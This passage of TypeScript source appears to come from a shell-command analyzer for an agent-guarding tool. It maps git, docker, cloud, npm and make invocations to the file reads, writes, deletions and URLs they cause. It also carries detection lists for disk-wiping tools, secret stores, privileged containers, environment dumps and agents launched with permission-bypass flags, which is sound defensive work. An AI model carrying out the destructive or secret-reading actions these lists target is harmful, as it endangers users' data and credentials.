    c.a.url({ url: 'smtp://mail', host: value(p, '--smtp-server')?.text ?? 'smtp', scheme: 'smtp', via: 'git send-email', sends: 'file' });
  },
  difftool: (c) => {
    const p = gitGeneric(c, { short: 'xt', long: ['extcmd', 'tool'], groups: [['-y', '--no-prompt']] });
    for (const e of allValues(p, '-x', '--extcmd')) runText(c.a, { ...c.inv, st: c.st }, e, 'git difftool --extcmd');
  },
  worktree: (c) => {
    const p = parseArgs(c.args, { short: 'bB', long: ['reason'] });
    const [action, path] = p.operands;
    gitEmit(c, p, action ? ['worktree', action.text] : ['worktree']);
    if (action?.text === 'add' && path) c.a.path(path, 'write', 'git worktree add', c.st, { recursive: true });
    if (action?.text === 'remove' && path) c.a.path(path, 'delete', 'git worktree remove', c.st, { recursive: true });
  },
  credential: (c) => {
    const p = parseArgs(c.args);
    gitEmit(c, p, p.operands[0] ? ['credential', p.operands[0].text] : ['credential']);
  },
  'credential-store': (c) => void gitGeneric(c, {}),
  init: (c) => {
    const p = gitGeneric(c, { short: 'b', long: ['template', 'separate-git-dir', 'initial-branch', 'object-format', 'ref-format'] }, 'write');
    // A template directory's hooks are copied into .git/hooks: the same as init.templateDir for this call.
    for (const t of allValues(p, '--template')) if (t.text) gitSetting(c.a, c.inv, 'init.templatedir', t.text, 'git init --template');
  },
  hook: (c) => {
    const p = parseArgs(c.args);
    gitEmit(c, p, p.operands[0] ? ['hook', p.operands[0].text] : ['hook']);
  },
};

function gitRemoteOp(c: GitCtx): void {
  const p = parseArgs(c.args, { short: 'ojt', long: ['upload-pack', 'depth', 'jobs', 'refmap', 'server-option', 'strategy', 'strategy-option'], groups: [['-f', '--force']] });
  gitEmit(c, p, [c.sub]);
  for (const u of allValues(p, '--upload-pack')) c.a.risk('git-config-exec', `git ${c.sub} --upload-pack=${u.text}`);
  const remote = p.operands[0];
  if (remote && looksLikeUrl(remote.text)) addUrl(c.a, c.inv, remote.text, `git ${c.sub}`);
  else if (remote && remoteSpec(remote.text)) addUrl(c.a, c.inv, `ssh://${remoteSpec(remote.text)!.host}`, `git ${c.sub}`);
}

// ── containers and cloud CLIs ───────────────────────────────────────────

on(['docker', 'podman', 'nerdctl'], (a, inv) => {
  const globalP = parseArgs(inv.args, { stopAtOperand: true, short: 'cHl', long: ['config', 'context', 'host', 'log-level', 'tlscacert', 'tlscert', 'tlskey'] });
  const [sub, ...rest] = globalP.rest;
  const p = parseArgs(rest, {
    stopAtOperand: ['run', 'create', 'exec'].includes(sub?.text ?? ''),
    short: 'vefwpuhlmtic',
    long: ['volume', 'mount', 'env', 'env-file', 'file', 'workdir', 'publish', 'user', 'name', 'network', 'entrypoint', 'secret', 'build-arg', 'tag', 'label', 'platform', 'memory', 'cpus', 'cap-add', 'device', 'security-opt', 'hostname', 'add-host', 'target', 'output', 'cache-from', 'ssh'],
  });
  const subWords = sub ? [sub.text, ...(sub.text === 'compose' || sub.text === 'buildx' || sub.text === 'image' || sub.text === 'container' || sub.text === 'volume' || sub.text === 'system' ? p.operands.slice(0, 1).map((x) => x.text) : [])] : [];
  emit(a, inv, p, subWords, globalP.flags);
  for (const v of allValues(p, '-v', '--volume')) {
    const src = v.text.split(':')[0]!;
    if (src.startsWith('/') || src.startsWith('.') || src.startsWith('~') || src.startsWith(DYN)) {
      a.path({ ...v, text: src }, 'read', `${inv.program} volume`, inv.st, { recursive: true });
      if (!/:ro(,|$)/.test(v.text)) a.path({ ...v, text: src }, 'write', `${inv.program} volume`, inv.st, { recursive: true });
    }
  }
  for (const m of allValues(p, '--mount')) {
    const src = /(?:^|,)(?:source|src)=([^,]+)/.exec(m.text)?.[1];
    if (src && /(^|,)type=bind/.test(m.text)) a.path({ ...m, text: src }, 'read', `${inv.program} bind mount`, inv.st, { recursive: true });
  }
  for (const s of allValues(p, '--secret')) {
    const src = /(?:^|,)(?:src|source)=([^,]+)/.exec(s.text)?.[1];
    if (src) a.path({ ...s, text: src }, 'read', `${inv.program} --secret`, inv.st);
  }
  for (const ef of allValues(p, '--env-file')) a.path(ef, 'read', `${inv.program} --env-file`, inv.st);
  if (sub?.text === 'build' || sub?.text === 'buildx') {
    const context = p.operands.filter((o) => o.text !== 'build')[0] ?? f('.');
    for (const df of allValues(p, '-f', '--file')) {
      a.path(df, 'read', `${inv.program} build file`, inv.st);
      // COPY and ADD sources of a Dockerfile given on stdin or written by this command line are read
      // from the build context into the image.
      const text = df.text === '-' ? stdinText(inv.stdin) : textOrigin(a.fileOrigin(inv.st, df));
      if (!text) continue;
      for (const src of dockerfileSources(text.text)) a.path(f(`${context.text.replace(/\/+$/, '')}/${src}`), 'read', `${inv.program} build COPY`, inv.st, { recursive: true });
    }
  }
  if (sub?.text === 'cp') {
    const [from, to] = p.operands;
    if (from && !/^[\w.-]+:/.test(from.text)) a.path(from, 'read', `${inv.program} cp source`, inv.st, { recursive: true });
    if (to && !/^[\w.-]+:/.test(to.text)) a.path(to, 'write', `${inv.program} cp destination`, inv.st, { recursive: true });
  }
  if (has(p, '--privileged')) a.risk('shell-state-change', `${inv.program} --privileged gives a container full access to the host`);
});

/** CLIs whose first words name an action; global options that take values are skipped. */
const CLI_SUBCOMMAND_DEPTH: Record<string, { depth: number; spec: OptSpec; files?: string[] }> = {
  kubectl: { depth: 2, spec: { short: 'nsflco', long: ['namespace', 'context', 'kubeconfig', 'server', 'cluster', 'user', 'token', 'selector', 'filename', 'output', 'container', 'from-file', 'from-env-file', 'as'] }, files: ['-f', '--filename', '--kubeconfig', '--from-file', '--from-env-file'] },
  oc: { depth: 2, spec: { short: 'nsfl', long: ['namespace', 'context', 'kubeconfig', 'server', 'filename'] }, files: ['-f', '--filename', '--kubeconfig'] },
  helm: { depth: 2, spec: { short: 'nfo', long: ['namespace', 'kube-context', 'kubeconfig', 'values', 'set', 'set-file', 'version', 'repo', 'output'] }, files: ['-f', '--values', '--kubeconfig', '--set-file'] },
  terraform: { depth: 2, spec: { long: ['chdir', 'var', 'var-file', 'target', 'state', 'out', 'backend-config'] }, files: ['--var-file', '--backend-config'] },
  tofu: { depth: 2, spec: { long: ['chdir', 'var', 'var-file', 'target', 'state', 'out'] }, files: ['--var-file'] },
  terragrunt: { depth: 2, spec: {} },
  pulumi: { depth: 2, spec: { short: 'sC', long: ['stack', 'cwd', 'config'] } },
  aws: { depth: 2, spec: { long: ['profile', 'region', 'output', 'endpoint-url', 'query', 'cli-input-json', 'cli-input-yaml'] } },
  gcloud: { depth: 3, spec: { long: ['project', 'account', 'configuration', 'format', 'region', 'zone', 'filter', 'verbosity', 'impersonate-service-account', 'flags-file', 'source'] }, files: ['--flags-file'] },
  gsutil: { depth: 1, spec: { short: 'ohmpu' } },
  az: { depth: 3, spec: { long: ['subscription', 'resource-group', 'output', 'query', 'name'] } },
  gh: { depth: 2, spec: { short: 'RBtbFfr', long: ['repo', 'body', 'title', 'base', 'head', 'body-file', 'field', 'raw-field', 'ref', 'notes', 'notes-file', 'method', 'input'] }, files: ['--body-file', '--notes-file', '-F'] },
  glab: { depth: 2, spec: { short: 'Rm', long: ['repo', 'message'] } },
  npm: { depth: 2, spec: { short: 'w', long: ['workspace', 'prefix', 'registry', 'tag', 'access', 'otp', 'userconfig'] }, files: ['--userconfig'] },
  pnpm: { depth: 2, spec: { short: 'FC', long: ['filter', 'dir', 'registry', 'tag', 'access'] } },
  yarn: { depth: 2, spec: { long: ['cwd', 'registry', 'tag', 'access', 'new-version'] } },
  bun: { depth: 2, spec: { long: ['cwd', 'registry'] } },
  cargo: { depth: 2, spec: { short: 'pj', long: ['manifest-path', 'package', 'jobs', 'target', 'features', 'token', 'registry', 'index', 'config'] } },
  gem: { depth: 2, spec: { long: ['key', 'host', 'otp'] } },
  twine: { depth: 1, spec: { short: 'ruc', long: ['repository', 'repository-url', 'username', 'password', 'config-file'] } },
  poetry: { depth: 2, spec: { short: 'r', long: ['repository', 'username', 'password'] } },
  uv: { depth: 2, spec: { long: ['index', 'index-url', 'token', 'publish-url', 'directory', 'project'] } },
  dotnet: { depth: 2, spec: { short: 'cko', long: ['configuration', 'api-key', 'source', 'output'] } },
  vercel: { depth: 1, spec: { short: 'tAS', long: ['token', 'scope', 'local-config'] } },
  netlify: { depth: 1, spec: { long: ['site', 'auth', 'dir'] } },
  firebase: { depth: 2, spec: { short: 'P', long: ['project', 'only', 'token'] } },
  flyctl: { depth: 2, spec: { short: 'ac', long: ['app', 'config', 'image'] } },
  fly: { depth: 2, spec: { short: 'ac', long: ['app', 'config', 'image'] } },
  heroku: { depth: 2, spec: { short: 'ar', long: ['app', 'remote'] } },
  serverless: { depth: 2, spec: { short: 'scr', long: ['stage', 'config', 'region'] } },
  sls: { depth: 2, spec: { short: 'scr', long: ['stage', 'config', 'region'] } },
  cdk: { depth: 1, spec: { short: 'ac', long: ['app', 'context', 'profile'] } },
  sam: { depth: 1, spec: { short: 't', long: ['template-file', 'stack-name', 'profile', 'region'] } },
  wrangler: { depth: 2, spec: { short: 'ec', long: ['env', 'config', 'name'] } },
  eksctl: { depth: 2, spec: { short: 'f', long: ['config-file', 'cluster', 'region'] } },
  doctl: { depth: 3, spec: { short: 't', long: ['access-token', 'context'] } },
  ansible: { depth: 1, spec: { short: 'imMaeu', long: ['inventory', 'module-name', 'args', 'extra-vars', 'user'] } },
  'ansible-playbook': { depth: 1, spec: { short: 'ieul', long: ['inventory', 'extra-vars', 'user', 'limit', 'vault-password-file'] }, files: ['--vault-password-file'] },
  skaffold: { depth: 1, spec: { short: 'fp', long: ['filename', 'profile'] } },
  argocd: { depth: 2, spec: { long: ['server', 'auth-token'] } },
  railway: { depth: 1, spec: { short: 's', long: ['service', 'environment'] } },
  goreleaser: { depth: 1, spec: { short: 'f', long: ['config'] } },
  docker_compose: { depth: 1, spec: {} },
  mvn: { depth: 1, spec: { short: 'fspPD', long: ['file', 'settings', 'projects', 'activate-profiles'] } },
  gradle: { depth: 1, spec: { short: 'bcpPD', long: ['build-file', 'project-dir'] } },
  './gradlew': { depth: 1, spec: { short: 'bcpPD' } },
  make: { depth: 1, spec: { short: 'fCIjloW', long: ['file', 'directory', 'include-dir', 'jobs', 'load-average', 'what-if', 'old-file'] }, files: ['-f', '--file'] },
  just: { depth: 1, spec: { short: 'fd', long: ['justfile', 'working-directory', 'set'] } },
  pip: { depth: 1, spec: { short: 'rcei', long: ['requirement', 'constraint', 'editable', 'index-url', 'extra-index-url', 'target', 'prefix', 'root'] }, files: ['-r', '--requirement', '-c', '--constraint'] },
  pip3: { depth: 1, spec: { short: 'rcei', long: ['requirement', 'constraint', 'editable', 'index-url', 'extra-index-url', 'target'] }, files: ['-r', '--requirement'] },
  go: { depth: 1, spec: { short: 'oCp', long: ['modfile', 'tags', 'ldflags', 'gcflags', 'run', 'count', 'timeout'] } },
  security: { depth: 1, spec: { short: 'sacdlrPDtT' } },
  op: { depth: 2, spec: { long: ['account', 'vault', 'fields', 'format', 'session'] } },
  'secret-tool': { depth: 1, spec: {} },
  vault: { depth: 2, spec: { long: ['address', 'namespace', 'format', 'field', 'mount'] } },
  doppler: { depth: 2, spec: { short: 'pc', long: ['project', 'config', 'token'] } },
  pass: { depth: 1, spec: {} },
  gopass: { depth: 1, spec: {} },
  claude: { depth: 1, spec: { short: 'pr', long: ['print', 'resume', 'model', 'permission-mode', 'settings', 'setting-sources', 'mcp-config', 'allowedTools', 'allowed-tools', 'disallowedTools', 'append-system-prompt', 'output-format', 'input-format', 'add-dir', 'agents', 'session-id'] } },
  codex: { depth: 1, spec: { short: 'cmas', long: ['config', 'model', 'sandbox', 'ask-for-approval'] } },
  gemini: { depth: 1, spec: { short: 'pm', long: ['prompt', 'model'] } },
  aider: { depth: 1, spec: { short: 'm', long: ['message', 'model'] } },
  systemctl: { depth: 1, spec: { short: 'tpHMn', long: ['type', 'property', 'host', 'machine', 'lines'] } },
  launchctl: { depth: 1, spec: {} },
  service: { depth: 2, spec: {} },
  mkfs: { depth: 0, spec: { short: 'tLbcCiIjJmNOTU' } },
  fdisk: { depth: 0, spec: { short: 'bcCHSuL' } },
  parted: { depth: 0, spec: { short: 'a' } },
  wipefs: { depth: 0, spec: { short: 'bot' } },
  sgdisk: { depth: 0, spec: {} },
  mkswap: { depth: 0, spec: { short: 'LpU' } },
  diskutil: { depth: 1, spec: {} },
  mount: { depth: 0, spec: { short: 'tLUoO' } },
  umount: { depth: 0, spec: { short: 't' } },
  shutdown: { depth: 0, spec: {} },
  reboot: { depth: 0, spec: {} },
  halt: { depth: 0, spec: {} },
  poweroff: { depth: 0, spec: {} },
  iptables: { depth: 0, spec: { short: 'ADIRNXPLFZEtjiopsdm' } },
  ufw: { depth: 1, spec: {} },
  useradd: { depth: 0, spec: { short: 'cdeGgkKmpsu' } },
  usermod: { depth: 0, spec: { short: 'cdeGglpsu' } },
  passwd: { depth: 0, spec: {} },
  visudo: { depth: 0, spec: { short: 'f' } },
  // Agent Warden's own CLI: `warden trust pin`, `warden mcp accept`… (the baseline's guard.* rules).
  warden: { depth: 2, spec: { long: ['home', 'server', 'bundle-id', 'policy', 'scope', 'dir', 'settings', 'node', 'hook', 'claude', 'on-failure', 'token', 'token-file', 'trust-root', 'trust-root-sha256', 'managed-dir', 'name', 'admin-token-file', 'principal', 'role', 'user', 'rule', 'tool', 'duration', 'reason', 'command', 'input', 'out', 'key', 'sign', 'trust', 'tenant', 'version', 'tests'] } },
  'agent-warden': { depth: 2, spec: { long: ['home', 'server', 'bundle-id', 'policy', 'scope', 'dir', 'settings', 'node', 'hook', 'claude', 'on-failure', 'token', 'token-file', 'trust-root', 'trust-root-sha256', 'managed-dir', 'name'] } },
};

/** The table entry a program uses: formatters share mkfs's, `pip3.11` uses pip3's; never undefined. */
function cliName(inv: Invocation): string {
  const p = inv.program;
  if (FORMATTERS.has(p) || /^(mkfs|newfs)/.test(p)) return 'mkfs';
  for (const n of [p, versionless(p), inv.invokedAs]) if (Object.hasOwn(CLI_SUBCOMMAND_DEPTH, n)) return n;
  return p;
}

function cliHandler(a: ShellAnalyzer, inv: Invocation): void {
  const name = cliName(inv);
  const entry = CLI_SUBCOMMAND_DEPTH[name] ?? { depth: 0, spec: {} };
  const p = parseArgs(inv.args, entry.spec);
  const sub = p.operands.slice(0, entry.depth).filter((x) => !x.dynamic).map((x) => x.text);
  emit(a, inv, p, sub);
  for (const opt of entry.files ?? []) for (const v of allValues(p, opt)) a.path(v, 'read', `${inv.program} ${opt}`, inv.st);
  if (name === 'mkfs' || name === 'fdisk' || name === 'parted' || name === 'wipefs' || name === 'sgdisk' || name === 'mkswap') {
    for (const o of p.operands) if (o.text.startsWith('/dev/')) a.path(o, 'write', `${inv.program} device`, inv.st);
    // A formatter overwrites whatever it is given, an image file or ~/.bashrc as much as a disk.
    if (name === 'mkfs') for (const o of p.operands) if (!o.text.startsWith('/dev/') && !/^\d+[kKmMgG]?$/.test(o.text)) a.path(o, 'write', `${inv.program} target`, inv.st);
  }
  if (name === 'make' || name === 'just') {
    const dir = value(p, '-C', '--directory', '-d', '--working-directory');
    if (dir) a.path(dir, 'list', `${inv.program} -C`, inv.st);
    for (const file of allValues(p, '-f', '--file', '--makefile')) {
      // A makefile this command line wrote, or one given on stdin: its recipes are shell commands.
      const text = file.text === '-' ? stdinText(inv.stdin) : textOrigin(a.fileOrigin(inv.st, file));
      if (text) for (const recipe of makeRecipes(text.text)) runText(a, inv, recipe, 'make recipe', { kind: 'none' });
    }
  }
  if (name === 'claude' || name === 'codex' || name === 'gemini' || name === 'aider') {
    a.risk('nested-agent', `${inv.program} starts another coding agent${p.flags.some((x) => /dangerously|bypass|skip-permissions|bare|yolo/i.test(x)) ? ' without its permission checks' : ''}`);
  }
  for (const u of p.operands) if (looksLikeUrl(u.text) && !/^(s3|gs):/.test(u.text)) addUrl(a, inv, u.text, inv.program);
  if (p.operands[0]?.dynamic && ['git', 'docker', 'kubectl', 'terraform', 'helm', 'aws', 'gcloud', 'az', 'gh'].includes(name)) a.risk('dynamic-program', `${inv.program} subcommand computed at run time: ${p.operands[0].text}`);
  const ops = p.operands.slice(entry.depth);
  // Object storage copies: local sources are read (and sent), local destinations written.
  if ((name === 'aws' && sub[0] === 's3' && ['cp', 'mv', 'sync'].includes(sub[1] ?? '')) || (name === 'gsutil' && ['cp', 'mv', 'rsync'].includes(sub[0] ?? ''))) {
    const files = name === 'gsutil' ? p.operands.slice(1) : ops;
    const dest = files[files.length - 1];
    const sources = files.slice(0, -1);
    const remote = (x: Field): boolean => /^(s3|gs):\/\//.test(x.text);
    const recursive = sub.includes('sync') || sub.includes('rsync') || has(p, '--recursive', '-r', '-R');
    for (const src of sources) {
      if (!remote(src)) {
        a.path(src, 'read', `${inv.program} upload source`, inv.st, { recursive });
        if (sub.includes('mv')) a.path(src, 'delete', `${inv.program} mv source`, inv.st, { recursive });
      }
    }
    if (dest && remote(dest)) addUrl(a, inv, dest.text.replace(/^((?:s3|gs):\/\/[^/]+).*$/, '$1'), inv.program, sources.some((x) => !remote(x)) ? 'file' : undefined);
    else if (dest) a.path(dest, 'write', `${inv.program} download destination`, inv.st, { recursive });
  }
  if (name === 'gh' && ((sub[0] === 'gist' && sub[1] === 'create') || (sub[0] === 'release' && (sub[1] === 'upload' || sub[1] === 'create')))) {
    const files = sub[0] === 'gist' ? ops : ops.slice(1);
    readAll(a, inv, files.filter((x) => x.text !== '-'), `gh ${sub.join(' ')} file`);
    if (files.length) addUrl(a, inv, 'https://api.github.com', `gh ${sub.join(' ')}`, 'file');
  }
}
on(Object.keys(CLI_SUBCOMMAND_DEPTH).filter((n) => !['npm', 'pnpm', 'yarn', 'bun'].includes(n)), cliHandler);
/** File-system formatters besides `mkfs.*`/`newfs*` (matched by family): they overwrite their operand. */
const FORMATTERS = new Set(['mke2fs', 'mke4fs', 'mkdosfs', 'mkntfs', 'mkexfatfs', 'mkreiserfs', 'mkhfs', 'mkfs', 'mkswap']);
on(['mkfs.ext4', 'mkfs.ext3', 'mkfs.ext2', 'mkfs.xfs', 'mkfs.btrfs', 'mkfs.vfat', 'mkfs.fat', 'mkfs.msdos', 'mkfs.ntfs', 'mkfs.exfat', 'mkfs.minix', 'mkfs.f2fs', 'newfs', 'newfs_apfs', ...FORMATTERS], cliHandler);

function textOrigin(o: FileOrigin | undefined): { text: string; dynamic: boolean } | undefined {
  return o?.kind === 'text' ? { text: o.text, dynamic: o.dynamic } : undefined;
}

/** Recipe lines of a makefile, with make's own syntax turned into shell: `$$` is `$`, `$(VAR)` unknown. */
function makeRecipes(text: string): string[] {
  const out: string[] = [];
  for (const line of text.replace(/\\\n/g, ' ').split('\n')) {
    if (!line.startsWith('\t')) continue;
    const cmd = line
      .slice(1)
      .replace(/^[@+-]+/, '')
      .replace(/\$\$/g, '\u0002')
      .replace(/\$[({][^)}]*[)}]|\$[@<^?*%]/g, DYN)
      .replace(/\u0002/g, '$');
    if (cmd.trim()) out.push(cmd);
  }
  return out.slice(0, 64);
}

/** Source operands of COPY/ADD instructions (not --from=another stage). */
function dockerfileSources(text: string): string[] {
  const out: string[] = [];
  for (const line of text.replace(/\\\n/g, ' ').split('\n')) {
    const m = /^\s*(COPY|ADD)\s+(.*)$/i.exec(line);
    if (!m) continue;
    let words: string[];
    try {
      words = m[2]!.trim().startsWith('[') ? (JSON.parse(m[2]!) as unknown[]).map(String) : m[2]!.trim().split(/\s+/);
    } catch {
      words = m[2]!.trim().split(/\s+/);
    }
    if (words.some((w) => /^--from=/.test(w))) continue;
    const operands = words.filter((w) => !w.startsWith('--'));
    out.push(...operands.slice(0, -1).filter((s) => !/^https?:/.test(s)));
  }
  return out.slice(0, 64);
}

// ── package runners, npm scripts ────────────────────────────────────────

/** The executable a package installs, for the packages whose name differs from it. */
const PACKAGE_BINS: Record<string, string> = {
  'claude-code': 'claude', 'firebase-tools': 'firebase', 'aws-cdk': 'cdk', 'netlify-cli': 'netlify', cli: 'railway',
  'serverless': 'serverless', typescript: 'tsc', '@google/gemini-cli': 'gemini', 'gemini-cli': 'gemini', '@openai/codex': 'codex',
  'aider-chat': 'aider', 'heroku': 'heroku', '@azure/static-web-apps-cli': 'swa', 'vercel': 'vercel', 'wrangler': 'wrangler',
};

function packageBin(spec: string): string {
  const noVersion = spec.replace(/^(@[^/]+\/[^@]+|[^@]+)@.*$/, '$1');
  if (PACKAGE_BINS[noVersion]) return PACKAGE_BINS[noVersion]!;
  const base = noVersion.includes('/') ? noVersion.slice(noVersion.lastIndexOf('/') + 1) : noVersion;
  return PACKAGE_BINS[base] ?? base;
}

/**
 * npx / npm exec / pnpm dlx / yarn dlx / bunx / uvx / pipx run: the package's executable runs with the
 * remaining arguments, as if called directly (`npx cdk deploy` is `cdk deploy`).
 */
function packageRunner(a: ShellAnalyzer, inv: Invocation, args: Field[], label: string): void {
  const p = parseArgs(args, { stopAtOperand: true, short: 'pc', long: ['package', 'call', 'from', 'spec', 'with', 'python'], flags: ['--yes', '--no', '--quiet', '--ignore-existing'] });
  emit(a, inv, p, p.rest[0] ? [p.rest[0].text] : []);
  const call = value(p, '-c', '--call');
  if (call) return runText(a, inv, call, `${label} -c`);
  const [cmd, ...rest] = p.rest;
  if (!cmd) return;
  const bin = value(p, '-p', '--package', '--from', '--spec') ? cmd.text : packageBin(cmd.text);
  wrap(a, inv, [{ ...cmd, text: bin }, ...rest], label);
}

on(['npx', 'bunx', 'pnpx', 'uvx'], (a, inv) => packageRunner(a, inv, inv.args, inv.program));
on('pipx', (a, inv) => {
  if (inv.args[0]?.text === 'run') packageRunner(a, inv, inv.args.slice(1), 'pipx run');
  else emit(a, inv, parseArgs(inv.args), inv.args[0] ? [inv.args[0].text] : []);
});

on(['rimraf', 'del', 'del-cli', 'trash', 'trash-put', 'gio'], (a, inv) => {
  const args = inv.program === 'gio' ? (inv.args[0]?.text === 'trash' || inv.args[0]?.text === 'remove' ? inv.args.slice(1) : []) : inv.args;
  const p = parseArgs(args, { long: ['glob', 'preserve-root'] });
  emit(a, inv, p);
  for (const o of p.operands) {
    a.path(o, 'delete', `${inv.program} operand`, inv.st, { recursive: true });
    if (o.dynamic || (!o.glob && o.text.includes(DYN))) a.risk('dynamic-path-delete', `${inv.program} of a path computed at run time: ${o.text}`);
  }
});

/** npm, pnpm, yarn and bun: publishing, config writes, and the scripts `run` executes. */
const NPM_LIKE = ['npm', 'pnpm', 'yarn', 'bun'];
const NPM_LIFECYCLE: Record<string, string[]> = {
  test: ['pretest', 'test', 'posttest'],
  t: ['pretest', 'test', 'posttest'],
  start: ['prestart', 'start', 'poststart'],
  stop: ['prestop', 'stop', 'poststop'],
  restart: ['prerestart', 'restart', 'postrestart'],
  install: ['preinstall', 'install', 'postinstall', 'prepare'],
  i: ['preinstall', 'install', 'postinstall', 'prepare'],
  ci: ['preinstall', 'install', 'postinstall', 'prepare'],
  pack: ['prepack', 'prepare', 'postpack'],
  publish: ['prepublishOnly', 'prepack', 'prepare', 'postpack', 'publish', 'postpublish'],
};

function npmHandler(a: ShellAnalyzer, inv: Invocation): void {
  // bun is also a JavaScript runtime: `bun -e code`, `bun x.ts`, `bun run -` run code like node does.
  if (inv.program === 'bun') {
    const [first, second] = inv.args.map((x) => x.text);
    const script = (s: string | undefined) => s === '-' || /\.(?:[cm]?[jt]sx?)$/.test(s ?? '');
    if (first !== undefined && (/^(?:-e|--eval|-p|--print)(?:=|$)/.test(first) || script(first))) return interpreterHandler(a, inv);
    if (first === 'run' && script(second)) return interpreterHandler(a, { ...inv, args: inv.args.slice(1) });
  }
  const entry = CLI_SUBCOMMAND_DEPTH[inv.program]!;
  const p = parseArgs(inv.args, entry.spec);
  const words = p.operands.filter((x) => !x.dynamic).map((x) => x.text);
  emit(a, inv, p, words.slice(0, entry.depth));
  const [sub, second, ...rest] = p.operands;
  if (!sub) return;
  if (sub.dynamic) return a.risk('dynamic-program', `${inv.program} subcommand computed at run time: ${sub.text}`);
  const s1 = sub.text;
  // The runner's own options (`-c 'text'`, `--call`, the command's `-rf`) follow the subcommand word as written.
  if ((s1 === 'exec' || s1 === 'x' || s1 === 'dlx') && inv.program !== 'bun') return packageRunner(a, inv, inv.args.slice(inv.args.indexOf(sub) + 1), `${inv.program} ${s1}`);
  if (s1 === 'config' && second && ['set', 'delete', 'edit', 'rm'].includes(second.text)) {
    const loc = value(p, '--location')?.text ?? (has(p, '-g', '--global') ? 'global' : 'user');
    const file = loc === 'project' ? '.npmrc' : loc === 'global' ? '/usr/local/etc/npmrc' : `${a.env.home}/.npmrc`;
    // One write per key, the key in `via` (`npm config set registry`), so a policy can tell an ordinary
    // setting from an auth token or a program npm runs.
    // A registry setting also names its value: where later installs come from.
    const pairs = second.text === 'edit' ? [] : rest[0]?.text.includes('=') ? rest.map((x) => x.text.split(/=(.*)/s)) : second.text === 'set' ? rest.filter((_, k) => k % 2 === 0).map((x, k) => [x.text, rest[2 * k + 1]?.text ?? '']) : rest.map((x) => [x.text]);
    if (!pairs.length) a.path(f(file), 'write', `${inv.program} config ${second.text}`, inv.st);
    for (const [key, val] of pairs) a.path(f(file), 'write', `${inv.program} config ${second.text} ${key}${/(^|:)registry$|^npmRegistryServer$/.test(key!) && val !== undefined ? ` ${val}` : ''}`, inv.st);
    return;
  }
  if (s1 === 'pkg' && second?.text === 'set') {
    a.path(f('package.json'), 'write', `${inv.program} pkg set`, inv.st);
    for (const kv of rest) {
      const m = /^scripts\.([^=]+)=(.*)$/s.exec(kv.text);
      if (m) inv.st.world.npmScripts.set(m[1]!, { ...kv, text: m[2]! });
    }
    return;
  }
  // Scripts this command line runs: `npm run x`, `npm test`, `yarn x`, `pnpm x`, `bun run x`.
  let names: string[] = [];
  if (s1 === 'run' || s1 === 'run-script' || s1 === 'rum' || s1 === 'urn') names = second && !second.dynamic ? [`pre${second.text}`, second.text, `post${second.text}`] : [];
  else if (NPM_LIFECYCLE[s1]) names = NPM_LIFECYCLE[s1]!;
  else if (inv.program !== 'npm') names = [s1];
  if (second?.dynamic && (s1 === 'run' || s1 === 'run-script')) a.risk('dynamic-program', `${inv.program} run of a script name computed at run time`);
  for (const name of names) {
    const script = inv.st.world.npmScripts.get(name) ?? packageJsonScript(a, inv, name);
    if (script) runText(a, inv, script, `${inv.program} script ${name}`, { kind: 'none' });
    // npm's (and yarn 1's) built-in `env` script prints the whole environment when the project has none.
    else if (name === 'env' && (inv.program === 'npm' || inv.program === 'yarn')) a.risk('env-dump', `${inv.program} run env prints the environment`);
  }
}
on(NPM_LIKE, npmHandler);

/** A script from the package.json in the current directory (read through the file-system probe). */
function packageJsonScript(a: ShellAnalyzer, inv: Invocation, name: string): Field | undefined {
  const read = a.env.fs?.readText;
  if (!read) return undefined;
  const file = a.firstPath(f('package.json'), inv.st);
  const origin = a.fileOrigin(inv.st, file);
  const text = origin?.kind === 'text' ? origin.text : read(file, 1_000_000);
  if (!text) return undefined;
  try {
    const scripts = (JSON.parse(text) as { scripts?: Record<string, unknown> }).scripts;
    const script = scripts?.[name];
    return typeof script === 'string' ? f(script) : undefined;
  } catch {
    return undefined;
  }
}

// ── command runners ─────────────────────────────────────────────────────

/**
 * Project and toolchain runners: `uv run CMD…`, `poetry run CMD…`, `bundle exec CMD…` run CMD as it is,
 * inside an environment. `global` parses options before the subcommand, `spec` those after it; `skip`
 * operands come before the command (`direnv exec DIR CMD…`); `shell` options take a shell string.
 */
interface RunnerSpec {
  subs: string[];
  global?: OptSpec;
  spec?: OptSpec;
  skip?: number;
  shell?: string[];
  /** The command is what follows one of these words (`nix develop --command CMD…`, `mise exec TOOL -- CMD…`). */
  after?: string[];
}
const UV_RUN: OptSpec = {
  short: 'pCPfi',
  long: ['with', 'with-editable', 'with-requirements', 'python', 'package', 'extra', 'group', 'only-group', 'no-group', 'no-extra', 'env-file', 'directory', 'project', 'index', 'default-index', 'index-url', 'extra-index-url', 'find-links', 'config-file', 'cache-dir', 'refresh-package', 'upgrade-package', 'reinstall-package', 'no-binary-package', 'no-build-package', 'python-platform', 'exclude-newer', 'index-strategy', 'keyring-provider', 'resolution', 'prerelease', 'link-mode', 'color', 'allow-insecure-host', 'config-setting', 'from'],
};
const CONDA_RUN: OptSpec = { short: 'np', long: ['name', 'prefix', 'cwd'] };
const RUNNERS: Record<string, RunnerSpec> = {
  uv: { subs: ['run', 'tool run'], global: { long: ['directory', 'project', 'cache-dir', 'config-file', 'color', 'python'] }, spec: UV_RUN },
  poetry: { subs: ['run'], global: { short: 'CP', long: ['directory', 'project'] }, spec: { short: 'CP', long: ['directory', 'project'] } },
  pipenv: { subs: ['run'], global: { long: ['python', 'pypi-mirror'] } },
  pdm: { subs: ['run'], global: { short: 'p', long: ['project'] }, spec: { short: 'p', long: ['project', 'venv'] } },
  hatch: { subs: ['run', 'env run'], global: { short: 'e', long: ['env', 'data-dir', 'cache-dir', 'config'] }, spec: { short: 'e', long: ['env', 'include', 'exclude', 'filter'] } },
  rye: { subs: ['run'], spec: { long: ['pyproject'] } },
  bundle: { subs: ['exec'], global: { long: ['gemfile'] }, spec: { long: ['gemfile'] } },
  bundler: { subs: ['exec'], global: { long: ['gemfile'] }, spec: { long: ['gemfile'] } },
  direnv: { subs: ['exec'], skip: 1 },
  conda: { subs: ['run'], spec: CONDA_RUN },
  mamba: { subs: ['run'], spec: CONDA_RUN },
  micromamba: { subs: ['run'], spec: CONDA_RUN },
  mise: { subs: ['exec', 'x'], spec: { short: 'cCj', long: ['command', 'cd', 'jobs'] }, shell: ['-c', '--command'], after: ['--'] },
  rtx: { subs: ['exec', 'x'], spec: { short: 'cCj', long: ['command', 'cd', 'jobs'] }, shell: ['-c', '--command'], after: ['--'] },
  asdf: { subs: ['exec'] },
  rbenv: { subs: ['exec'] },
  pyenv: { subs: ['exec'] },
  nodenv: { subs: ['exec'] },
